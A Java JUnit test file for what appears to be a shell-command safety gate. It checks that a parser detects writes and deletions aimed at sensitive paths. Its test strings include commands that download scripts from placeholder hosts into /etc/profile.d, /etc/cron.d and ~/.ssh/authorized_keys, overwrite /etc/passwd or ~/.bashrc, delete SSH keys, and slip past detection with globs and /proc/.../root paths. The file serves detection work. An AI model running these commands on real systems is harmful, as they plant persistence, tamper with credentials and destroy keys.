package dev.talaria.engine.gate.reading;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// The files that programs change, however their words name them.
final class WriteTargetsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "wget -qO/etc/profile.d/x.sh URL -> write /etc/profile.d/x.sh",
                "curl -sLo/etc/cron.d/x URL -> write /etc/cron.d/x",
                "cp -t/etc passwd -> write /etc/passwd",
                "cp --target-dir ~/.ssh authorized_keys -> write ~/.ssh/authorized_keys",
                "cp x ~/.bashrc --suffix .bak -> write ~/.bashrc",
                "rsync -a x ~/.ssh --exclude foo -> write ~/.ssh",
                "rsync -ap x ~/.ssh -> write ~/.ssh",
                "sort --out=/etc/passwd x -> write /etc/passwd",
                "sort -uo/etc/passwd x -> write /etc/passwd",
                "tar xfC x.tar /etc -> write /etc",
                "tar --extr -f x.tar --dir=/etc -> write /etc",
                "tar czf ~/.bashrc x -> write ~/.bashrc",
                "cd ~ && tar xf x.tar .bashrc -> write ~/.bashrc",
                "cd ~/.ssh && wget http://h/authorized_keys -> write ~/.ssh/authorized_keys",
                "cd ~/.ssh && curl -O http://h/authorized_keys -> write ~/.ssh/authorized_keys",
                "cd /etc && tar xf /tmp/x.tar -> write /etc/unpacked",
                "cd /etc && patch -p0 < p -> write /etc/unpacked",
                "cd /etc && unzip x.zip -> write /etc/unpacked",
                "cd /etc && cpio -id < x -> write /etc/unpacked",
                "patch -p1 <<< $'--- a/.git/hooks/x\\n+++ b/.git/hooks/x' -> write ~/src/project/.git/hooks/x",
                "git -C ~/.config clone x gh -> write ~/.config/gh",
                "cd ~/.config && git clone git@h:a/nvim.git -> write ~/.config/nvim",
                "git archive --out /etc/x HEAD -> write /etc/x",
                "git config -f/etc/x a.b c -> write /etc/x",
                "rm ~/.ss?/id_rsa -> delete ~/.ssh/id_rsa",
                "sed -i 1d ~/.bashr? -> write ~/.bashrc",
                "cd ~/.ss? && echo k > authorized_keys -> write ~/.ssh/authorized_keys",
                "cp x .gi[t]/hook?/y -> write ~/src/project/.git/hooks/y",
                "shopt -s dotglob; rm ~/*ssh/id -> delete ~/.ssh/id",
                "find . -maxdepth 0 -fprintf ~/.bash_profile x -> write ~/.bash_profile",
                "find . -fls /etc/x -> write /etc/x",
                "split -b 1 x ~/.ssh/ -> write ~/.ssh/x",
                "csplit --pre /etc/x y 1 -> write /etc/x00",
                "xxd -r x ~/.bashrc -> write ~/.bashrc",
                "uniq x ~/.bashrc -> write ~/.bashrc",
                "openssl req -keyout /etc/x -out y -> write /etc/x",
                "gpg -do ~/.bashrc x -> write ~/.bashrc",
                "busybox cp x ~/.bashrc -> write ~/.bashrc",
                "gcc x.c -o ~/.local/bin/git -> write ~/.local/bin/git",
                "docker cp c:/x ~/.bashrc -> write ~/.bashrc",
                "kubectl cp p:/x ~/.bashrc -n y -> write ~/.bashrc",
                "python3 -m pip install --targ /etc x -> write /etc",
                "cp -r dotfiles/. ~ -> write ~/.profile",
                "cd ~/.ssh && ln -s /tmp/authorized_keys -> write ~/.ssh/authorized_keys",
                "gawk -i inplace '{print}' ~/.bashrc -> write ~/.bashrc",
                "gawk 'BEGIN{print \"x\" > \"/etc/passwd\"}' -> write /etc/passwd",
                "awk -v o=/etc/passwd '{print > o}' f -> write /etc/passwd",
                "sed -n 'w /etc/cron.d/x' f -> write /etc/cron.d/x",
                "sed 's/a/b/gpw /etc/cron.d/x' f -> write /etc/cron.d/x",
                "vim -es -c 'w! ~/.bashrc' -c q f -> write ~/.bashrc",
                "cd ~ && ed .bashrc < script -> write ~/.bashrc",
                "perl -e 'open F, \">/etc/passwd\"' -> write /etc/passwd",
                "R -e 'writeLines(\"x\", \"/etc/passwd\")' -> write /etc/passwd",
                "groovy -e 'new File(\"/etc/passwd\").text = 1' -> write /etc/passwd",
                "tclsh <<< 'open /etc/passwd w' -> write /etc/passwd",
                "sqlite3 x '.output /etc/passwd' -> write /etc/passwd",
                "echo x > /proc/1/root/etc/passwd -> write /etc/passwd",
                "echo x > /proc/$$/root/etc/passwd -> write /etc/passwd",
                "echo x > /proc/1/task/1/root/etc/passwd -> write /etc/passwd",
                "cd /etc && echo x > /proc/self/cwd/passwd -> write /etc/passwd",
                "echo x > /dev/fd/../root/etc/passwd -> write /etc/passwd"
            })
    void isChanged(String row) {
        int arrow = row.lastIndexOf(" -> ");

        assertThat(Reading.of(row.substring(0, arrow)).writes()).contains(row.substring(arrow + " -> ".length()));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo x > /proc/1/cwd/etc/passwd",
                "cd /etc && cp x /proc/$$/cwd/passwd",
                "exec 3< ~/.bashrc; echo x > /dev/fd/3",
                "echo x > /dev/stdin < ~/.bashrc"
            })
    void cannotBeTold(String written) {
        assertThat(Reading.of(written).unknown()).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "wget -qO/tmp/x.sh http://h/x",
                "wget -qO- http://h/x",
                "curl -sLo build/x http://h/x",
                "cp -t build a b",
                "sort --out=out.txt x",
                "tar xfC x.tar build",
                "tar czf out.tgz -C /etc hosts",
                "cd /etc && tar tf /tmp/x.tar",
                "cd /etc && curl -s http://h/x",
                "cd /tmp && unzip x.zip",
                "git -C sub clone x gh",
                "git config --file=/etc/gitconfig --get a.b",
                "rm src/*.o build/?.o",
                "cp ~/.ss?/x /tmp/",
                "cp x /tmp/*/y",
                "find . -fprint out.txt",
                "scp x h:/etc/x",
                "docker cp ~/.bashrc c:/x",
                "xxd /etc/hosts",
                "uniq /etc/x",
                "gunzip -c /etc/x.gz",
                "echo x > /dev/fd/2",
                "echo x > /proc/self/cwd/y",
                "cat /proc/1/root/etc/passwd"
            })
    void isHarmless(String written) {
        Reading reading = Reading.of(written);

        assertThat(reading.unknown()).isEmpty();
        assertThat(reading.writes()).noneMatch(path -> path.matches("\\w+ (?:/etc|~/\\.).*"));
    }
}
